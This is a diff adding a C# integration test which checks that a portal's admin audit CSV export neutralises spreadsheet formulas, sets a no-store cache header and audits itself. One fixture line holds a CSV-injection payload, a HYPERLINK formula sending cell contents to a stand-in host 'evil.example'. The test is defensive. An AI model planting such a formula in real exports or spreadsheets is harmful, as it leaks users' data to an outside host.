@@ -161,6 +161,29 @@ public sealed partial class HardeningTests(PortalFixture portal) : IClassFixture
         Assert.All(keys, k => Assert.DoesNotContain("<masterKey", k.Split("encryptedSecret")[1], StringComparison.Ordinal));
     }
 
+    [Fact]
+    public async Task A_csv_export_writes_a_formula_typed_into_a_field_as_text_with_no_store_and_is_itself_audited()
+    {
+        const string formula = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")";
+        await using (var db = new Microsoft.Data.Sqlite.SqliteConnection($"Data Source={Path.Combine(portal.Factory.Directory, "corm.db")}"))
+        {
+            await db.OpenAsync();
+            await using var insert = db.CreateCommand();
+            insert.CommandText = "INSERT INTO AuditEntries (At, UserName, Action, RecordType, RecordId, Detail) VALUES ('2026-11-30 10:00:00', 'csv-test', 0, 'Test', '1', $d)";
+            insert.Parameters.AddWithValue("$d", formula);
+            await insert.ExecuteNonQueryAsync();
+        }
+        using var client = await portal.ClientForAsync(Personas.Admin);
+        var response = await client.GetAsync("/admin/audit.csv?user=csv-test");
+        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
+        Assert.Equal("no-store", response.Headers.CacheControl?.ToString());
+        var csv = await response.Content.ReadAsStringAsync();
+        Assert.Contains("'=HYPERLINK", csv, StringComparison.Ordinal);
+        Assert.DoesNotMatch("(^|,)\"?=", csv.Split('\n')[1]);
+        var audited = await client.GetAsync("/admin/audit.csv?type=AuditEntry");
+        Assert.Contains("1 row(s): user csv-test", await audited.Content.ReadAsStringAsync(), StringComparison.Ordinal); // the first export, audited with its filter
+    }
+
     private static string Flatten(Exception e) => e.InnerException is null ? e.Message : e.Message + " " + Flatten(e.InnerException);
 
     [Fact]
